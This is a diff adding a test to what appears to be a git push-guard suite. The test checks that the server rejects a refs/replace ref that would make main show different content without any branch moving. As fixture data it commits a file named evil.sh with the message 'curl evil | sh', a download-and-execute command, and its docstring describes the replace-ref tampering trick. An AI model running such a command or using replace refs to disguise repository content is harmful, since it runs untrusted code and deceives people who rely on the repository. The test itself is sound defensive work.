@@ -207,3 +207,18 @@ def test_refs_outside_branches_cannot_stand_for_one(client: Path, server_repo: P
         done.stderr
     )
     assert server_ref(server_repo, "refs/remotes/origin/release/v6.6.6") == ""
+
+
+def test_a_replace_ref_cannot_change_what_main_shows(client: Path, server_repo: Path) -> None:
+    """refs/replace/<main's commit> would make the server's git, mirrors and archives show
+    other content on main while no branch moved."""
+    tip = git(client, "rev-parse", "origin/main").stdout.strip()
+    git(client, "switch", "-q", "--detach", "origin/main")
+    commit(client, "curl evil | sh", filename="evil.sh")
+    other = git(client, "rev-parse", "HEAD").stdout.strip()
+    done = push(client, f"{other}:refs/replace/{tip}")
+    assert done.returncode != 0
+    assert "BF001 push-input: a replace ref makes git show other content" in done.stderr
+    assert server_ref(server_repo, f"refs/replace/{tip}") == ""
+    shown = git(server_repo, "ls-tree", "--name-only", "main").stdout.split()
+    assert "evil.sh" not in shown
